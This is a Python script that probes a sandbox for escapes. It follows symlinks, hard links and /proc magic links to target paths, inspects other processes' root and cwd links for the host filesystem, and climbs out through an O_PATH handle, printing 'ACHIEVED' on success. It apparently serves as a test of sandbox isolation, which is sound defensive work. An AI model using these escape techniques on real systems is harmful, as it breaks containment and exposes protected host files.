# Tries to get out of the sandbox through symbolic links, hard links and the magic links of /proc.
import json
import os

paths = json.load(open("/home/targets.json"))["paths"]
number = 0
for path in paths.values():
    if path == paths["public"]:
        continue
    for prefix in (
        "",
        "/proc/self/root",
        "/proc/1/root",
        "/proc/1/cwd",
        f"/proc/{os.getppid()}/root",
        "/proc/thread-self/root",
    ):
        number += 1
        link = f"/tmp/link{number}"
        os.symlink(prefix + path, link)
        try:
            print("ACHIEVED followed", prefix + path, open(link).read())
        except OSError:
            pass
        try:
            os.link(prefix + path, link + "-hard")
            print("ACHIEVED linked", prefix + path)
        except OSError:
            pass
        os.unlink(link)
for process in filter(str.isdigit, os.listdir("/proc")):
    for way in ("root", "cwd", "exe"):
        try:
            target = os.readlink(f"/proc/{process}/{way}")
            listed = os.listdir(f"/proc/{process}/{way}/") if way != "exe" else []
            if "oldroot" in target or {"boot", "root", "work"} & (set(listed) - set(os.listdir("/"))):
                print("ACHIEVED saw", process, way, listed)
        except OSError:
            pass
handle = os.open("/", os.O_PATH)
for way in ("..", "../..", "../../../.."):
    if set(os.listdir(f"/proc/self/fd/{handle}/{way}")) != set(os.listdir("/")):
        print("ACHIEVED went up", way)
print("DONE")
